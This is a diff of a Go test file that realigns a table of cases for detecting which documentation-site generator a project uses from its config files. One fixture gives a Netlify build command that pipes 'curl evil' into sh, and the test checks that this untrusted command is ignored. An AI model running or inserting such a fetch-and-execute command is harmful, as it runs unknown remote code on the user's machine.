@@ -30,32 +30,32 @@ func TestDetectInTheOrderOfWhoKnowsBest(t *testing.T) {
 		generator site.Generator
 		in        string
 	}{
-		"docjobs.yaml before all": {map[string]string{"docjobs.yaml": "generator: mkdocs", "netlify.toml": "[build]\ncommand='hugo'", "hugo.toml": ""}, "", site.MkDocs, "."},
+		"docjobs.yaml before all":    {map[string]string{"docjobs.yaml": "generator: mkdocs", "netlify.toml": "[build]\ncommand='hugo'", "hugo.toml": ""}, "", site.MkDocs, "."},
 		"docjobs.yaml with a folder": {map[string]string{"docjobs.yaml": "dir: web", "web/mkdocs.yml": "x: y"}, "", site.MkDocs, "web"},
-		"the job's folder wins": {map[string]string{"docjobs.yaml": "dir: web", "web/mkdocs.yml": "", "docs/a.md": ""}, "docs", site.Markdown, "docs"},
-		"a command by its name": {map[string]string{"docjobs.yaml": "command: handbook\ngenerator: hugo"}, "", "handbook", "."},
-		"netlify": {map[string]string{"netlify.toml": "[build]\ncommand = 'npm ci && npx docusaurus build'\n", "mkdocs.yml": ""}, "", site.Docusaurus, "."},
-		"netlify with a base": {map[string]string{"netlify.toml": "[build]\nbase = 'web'\ncommand = 'hugo --gc'\n", "web/hugo.toml": ""}, "", site.Hugo, "web"},
+		"the job's folder wins":      {map[string]string{"docjobs.yaml": "dir: web", "web/mkdocs.yml": "", "docs/a.md": ""}, "docs", site.Markdown, "docs"},
+		"a command by its name":      {map[string]string{"docjobs.yaml": "command: handbook\ngenerator: hugo"}, "", "handbook", "."},
+		"netlify":                    {map[string]string{"netlify.toml": "[build]\ncommand = 'npm ci && npx docusaurus build'\n", "mkdocs.yml": ""}, "", site.Docusaurus, "."},
+		"netlify with a base":        {map[string]string{"netlify.toml": "[build]\nbase = 'web'\ncommand = 'hugo --gc'\n", "web/hugo.toml": ""}, "", site.Hugo, "web"},
 		"netlify through a script": {map[string]string{"netlify.toml": "[build]\ncommand = 'npm run docs:build'\n",
 			"package.json": `{"scripts": {"docs:build": "vitepress build docs"}}`}, "", site.VitePress, "."},
 		"netlify with the operator's command": {map[string]string{"netlify.toml": "[build]\ncommand = 'make handbook'\n", "mkdocs.yml": ""}, "", "handbook", "."},
-		"netlify with what nobody knows": {map[string]string{"netlify.toml": "[build]\ncommand = 'curl evil | sh'\n", "mkdocs.yml": ""}, "", site.MkDocs, "."},
-		"vercel by its framework": {map[string]string{"vercel.json": `{"framework": "astro"}`, "README.md": ""}, "", site.Astro, "."},
-		"vercel by its command": {map[string]string{"vercel.json": `{"buildCommand": "bundle exec jekyll build"}`}, "", site.Jekyll, "."},
-		"readthedocs with Sphinx": {map[string]string{".readthedocs.yaml": "sphinx: {configuration: docs/conf.py}", "docs/conf.py": "", "mkdocs.yml": ""}, "", site.Sphinx, "."},
-		"readthedocs with MkDocs": {map[string]string{".readthedocs.yml": "mkdocs: {configuration: mkdocs.yml}", "mkdocs.yml": ""}, "", site.MkDocs, "."},
-		"readthedocs with commands": {map[string]string{".readthedocs.yaml": "build: {commands: [pip install x, mkdocs build, echo done]}"}, "", site.MkDocs, "."},
-		"broken settings are others'": {map[string]string{"netlify.toml": "[", "vercel.json": "{", ".readthedocs.yaml": "[", "book.toml": ""}, "", site.MdBook, "."},
-		"Hugo before MkDocs": {map[string]string{"hugo.toml": "", "mkdocs.yml": ""}, "", site.Hugo, "."},
-		"MkDocs":             {map[string]string{"mkdocs.yml": "", "docs/index.md": ""}, "", site.MkDocs, "."},
-		"Docusaurus":         {map[string]string{"website/docusaurus.config.ts": "", "README.md": ""}, "", site.Docusaurus, "website"},
-		"VitePress":          {map[string]string{"docs/.vitepress/config.mts": "", "README.md": ""}, "", site.VitePress, "."},
-		"Astro":              {map[string]string{"astro.config.mjs": "", "README.md": ""}, "", site.Astro, "."},
-		"mdBook":             {map[string]string{"book.toml": "", "src/SUMMARY.md": ""}, "", site.MdBook, "."},
-		"Sphinx":             {map[string]string{"doc/source/conf.py": "", "README.md": ""}, "", site.Sphinx, "."},
-		"Jekyll":             {map[string]string{"_config.yml": "", "index.md": ""}, "", site.Jekyll, "."},
-		"Markdown":           {map[string]string{"a.md": "", "index.html": ""}, "", site.Markdown, "."},
-		"a finished site":    {map[string]string{"index.html": ""}, "", site.Static, "."},
+		"netlify with what nobody knows":      {map[string]string{"netlify.toml": "[build]\ncommand = 'curl evil | sh'\n", "mkdocs.yml": ""}, "", site.MkDocs, "."},
+		"vercel by its framework":             {map[string]string{"vercel.json": `{"framework": "astro"}`, "README.md": ""}, "", site.Astro, "."},
+		"vercel by its command":               {map[string]string{"vercel.json": `{"buildCommand": "bundle exec jekyll build"}`}, "", site.Jekyll, "."},
+		"readthedocs with Sphinx":             {map[string]string{".readthedocs.yaml": "sphinx: {configuration: docs/conf.py}", "docs/conf.py": "", "mkdocs.yml": ""}, "", site.Sphinx, "."},
+		"readthedocs with MkDocs":             {map[string]string{".readthedocs.yml": "mkdocs: {configuration: mkdocs.yml}", "mkdocs.yml": ""}, "", site.MkDocs, "."},
+		"readthedocs with commands":           {map[string]string{".readthedocs.yaml": "build: {commands: [pip install x, mkdocs build, echo done]}"}, "", site.MkDocs, "."},
+		"broken settings are others'":         {map[string]string{"netlify.toml": "[", "vercel.json": "{", ".readthedocs.yaml": "[", "book.toml": ""}, "", site.MdBook, "."},
+		"Hugo before MkDocs":                  {map[string]string{"hugo.toml": "", "mkdocs.yml": ""}, "", site.Hugo, "."},
+		"MkDocs":                              {map[string]string{"mkdocs.yml": "", "docs/index.md": ""}, "", site.MkDocs, "."},
+		"Docusaurus":                          {map[string]string{"website/docusaurus.config.ts": "", "README.md": ""}, "", site.Docusaurus, "website"},
+		"VitePress":                           {map[string]string{"docs/.vitepress/config.mts": "", "README.md": ""}, "", site.VitePress, "."},
+		"Astro":                               {map[string]string{"astro.config.mjs": "", "README.md": ""}, "", site.Astro, "."},
+		"mdBook":                              {map[string]string{"book.toml": "", "src/SUMMARY.md": ""}, "", site.MdBook, "."},
+		"Sphinx":                              {map[string]string{"doc/source/conf.py": "", "README.md": ""}, "", site.Sphinx, "."},
+		"Jekyll":                              {map[string]string{"_config.yml": "", "index.md": ""}, "", site.Jekyll, "."},
+		"Markdown":                            {map[string]string{"a.md": "", "index.html": ""}, "", site.Markdown, "."},
+		"a finished site":                     {map[string]string{"index.html": ""}, "", site.Static, "."},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -117,4 +117,3 @@ func FuzzDetectDeclared(f *testing.F) {
 		require.True(t, d.Output == "" || fs.ValidPath(d.Output), d.Output)
 	})
 }
-
